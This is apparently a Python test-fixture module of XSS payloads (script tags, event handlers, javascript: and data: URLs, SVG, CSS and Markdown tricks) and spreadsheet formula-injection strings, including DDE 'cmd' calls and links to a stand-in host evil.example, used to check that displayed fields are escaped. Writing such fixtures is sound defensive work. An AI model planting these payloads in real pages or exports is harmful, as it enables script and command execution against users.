"""Hostile text for every field that is shown: XSS in its usual shapes, Markdown tricks,
broken markup, and spreadsheet formulas. Each payload carries MARK so a test can tell that
the text did reach the page (escaped) rather than silently vanish."""

from __future__ import annotations

MARK = "XSSMARK"

XSS: tuple[str, ...] = (
    # script elements
    f"<script>alert('{MARK}1')</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>{MARK}2",
    f"<scr<script>ipt>alert('{MARK}3')</scr</script>ipt>",
    f"<script\x20type=\"text/javascript\">javascript:alert('{MARK}4');</script>",
    f"\"><script>alert('{MARK}5')</script>",
    f"'><script>alert(String.fromCharCode(88,83,83))</script>{MARK}6",
    f"</title><script>alert('{MARK}7')</script>",
    f"</textarea><script>alert('{MARK}8')</script>",
    # event handlers
    f"<img src=x onerror=alert('{MARK}9')>",
    f"<body onload=alert('{MARK}10')>",
    f"<div onmouseover=\"alert('{MARK}11')\">hover</div>",
    f"<input autofocus onfocus=alert('{MARK}12')>",
    f"<details open ontoggle=alert('{MARK}13')>",
    f"\" onmouseover=\"alert('{MARK}14')\" x=\"",
    f"' onfocus='alert(1)' autofocus='{MARK}15",
    f"<video><source onerror=\"alert('{MARK}16')\">",
    # javascript:, vbscript: and data: URLs
    f"<a href=\"javascript:alert('{MARK}17')\">click</a>",
    f"<a href=\"JaVaScRiPt:alert('{MARK}18')\">x</a>",
    f"<a href=\"jav&#x09;ascript:alert('{MARK}19')\">x</a>",
    f"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">{MARK}20</a>",
    f"<iframe src=\"javascript:alert('{MARK}21')\"></iframe>",
    f"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{MARK}22</a>",
    f"<object data=\"data:text/html,<script>alert(1)</script>\">{MARK}23</object>",
    f"<embed src=\"javascript:alert('{MARK}24')\">",
    f"<form action=\"javascript:alert('{MARK}25')\"><button>x</button></form>",
    f"<button formaction=\"javascript:alert('{MARK}26')\">x</button>",
    f"<a href=\"vbscript:msgbox('{MARK}27')\">x</a>",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{MARK}28')\">",
    f"<base href=\"javascript:alert('{MARK}29')//\">",
    # SVG and MathML
    f"<svg onload=alert('{MARK}30')>",
    f"<svg><script>alert('{MARK}31')</script></svg>",
    f"<svg><a xlink:href=\"javascript:alert('{MARK}32')\"><text>x</text></a></svg>",
    f"<svg><animate onbegin=alert('{MARK}33') attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}34')>",
    # CSS expressions and style tricks
    f"<div style=\"width: expression(alert('{MARK}35'))\">x</div>",
    f"<div style=\"background:url(javascript:alert('{MARK}36'))\">x</div>",
    f"<style>@import 'javascript:alert(1)';</style>{MARK}37",
    f"<link rel=\"stylesheet\" href=\"javascript:alert('{MARK}38')\">",
    # broken and nested markup
    f"<<img src=x onerror=alert('{MARK}39')//<",
    f"<img src=\"x` `<script>alert('{MARK}40')</script>\"` `>",
    f"<!--<img src=\"--><img src=x onerror=alert('{MARK}41')//\">",
    f"<noscript><p title=\"</noscript><img src=x onerror=alert('{MARK}42')>\">",
    f"<![CDATA[<script>alert('{MARK}43')</script>]]>",
    f"<a href=\"/\" <script>alert('{MARK}44')</script>",
    # Markdown link and image tricks
    f"[click](javascript:alert('{MARK}45'))",
    f"[click](JAVASCRIPT:alert('{MARK}46'))",
    f"[x](  javascript:alert('{MARK}47')  )",
    f"![img](javascript:alert('{MARK}48'))",
    f"![img](x\" onerror=\"alert('{MARK}49'))",
    f"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==){MARK}50",
    f"[ref][1]\n\n[1]: javascript:alert('{MARK}51')",
    f"<javascript:alert('{MARK}52')>",
    f"[a](https://ok.example \"title\" onmouseover=alert('{MARK}53'))",
    f"```html\n<script>alert('{MARK}54')</script>\n```",
    f"[x](&#x6A;avascript:alert('{MARK}55'))",
)

# Text a spreadsheet would run as a formula, or as a DDE call, when the export is opened.
FORMULAS: tuple[str, ...] = (
    f"=HYPERLINK(\"http://evil.example/?{MARK}\",\"点此查看\")",
    f"+cmd|' /C calc'!A0 {MARK}",
    f"-2+3+cmd|' /C calc'!A0 {MARK}",
    f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    f"=1+1 {MARK}",
    f"\t=1+1 {MARK}",
    f"\r=1+1 {MARK}",
)

ALL: tuple[str, ...] = XSS + FORMULAS


def fill(length: int | None, offset: int, *, first: tuple[str, ...] = ALL) -> str:
    """As many payloads as fit in ``length`` characters, starting at ``offset`` (so fields
    next to each other get different ones); always at least the start of one."""
    limit = length or 4000
    corpus = first + tuple(p for p in ALL if p not in first)
    parts: list[str] = []
    used = 0
    for i in range(len(corpus)):
        payload = corpus[(offset + i) % len(corpus)]
        if used + len(payload) + 1 > limit:
            break
        parts.append(payload)
        used += len(payload) + 1
    return "\n".join(parts) or corpus[offset % len(corpus)][:limit]
